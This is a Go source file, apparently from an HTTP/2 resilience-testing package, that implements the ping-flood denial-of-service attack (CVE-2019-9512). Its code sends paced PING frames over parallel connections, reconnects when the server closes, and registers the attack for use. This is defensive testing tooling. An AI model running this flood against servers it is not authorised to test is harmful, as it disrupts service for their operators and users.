package h2attack

import (
	"context"
	"encoding/binary"
	"fmt"
	"time"

	"golang.org/x/net/http2"
)

// PingFloodParams: ping-flood (CVE-2019-9512) sends PING frames, each of
// which the server owes an ACK. A server that queues the ACKs faster than
// the client reads them buffers without bound. A healthy server answers
// too many pings with GOAWAY ENHANCE_YOUR_CALM "too_many_pings" (grpc-go's
// keepalive enforcement) or stops reading while its answers are unsent.
type PingFloodParams struct {
	// Connections attacking in parallel. Default 1.
	Connections int `yaml:"connections"`
	// Reconnect dials again (after 50ms) when the server closes a
	// connection before the time bound, at most 1000 times per
	// connection. Default true.
	Reconnect bool `yaml:"reconnect"`
	// Pings per connection. Default 100000.
	Pings int `yaml:"pings"`
	// Duration bounds the attack. Default 30s.
	Duration time.Duration `yaml:"duration"`
	// Rate is pings per second per connection; 0 = as fast as the
	// connection takes them. In a scenario it is the role's rate. Default 10000.
	Rate float64 `yaml:"-"`
}

// DefaultPingFlood returns ping-flood's defaults.
func DefaultPingFlood() PingFloodParams {
	return PingFloodParams{Connections: 1, Reconnect: true, Pings: 100_000, Duration: 30 * time.Second, Rate: 10_000}
}

func (p *PingFloodParams) limits() limits {
	return limits{connections: p.Connections, count: p.Pings, rate: p.Rate, duration: p.Duration}
}

// Validate implements Params.
func (p *PingFloodParams) Validate() error { return p.limits().validate("ping-flood", "pings") }

// SetRate implements Params.
func (p *PingFloodParams) SetRate(r float64) { p.Rate = r }

// Pace implements Params.
func (p *PingFloodParams) Pace() float64 { return p.Rate }

// Run implements Params.
func (p *PingFloodParams) Run(ctx context.Context, t Target, req Request, report Report) (Result, error) {
	if err := p.Validate(); err != nil {
		return Result{Attack: "ping-flood", Target: t.Addr}, fmt.Errorf("h2attack: %w", err)
	}
	return run(ctx, t, req, spec{noReconnect: !p.Reconnect, name: "ping-flood", lim: p.limits(),
		describe: "PING frames, each owed an ACK",
		loop: func(ctx context.Context, c *conn) (string, error) {
			return c.pace(ctx, p.Pings, p.Rate, func(i int) error {
				var data [8]byte
				binary.BigEndian.PutUint64(data[:], uint64(i)+1)
				return c.send(1, func(fr *http2.Framer) error { return fr.WritePing(false, data) })
			})
		}}, report)
}

func init() {
	register(Attack{Name: "ping-flood", Summary: "PING frames, each owed an ACK (CVE-2019-9512)",
		Params: func() Params { p := DefaultPingFlood(); return &p }})
}
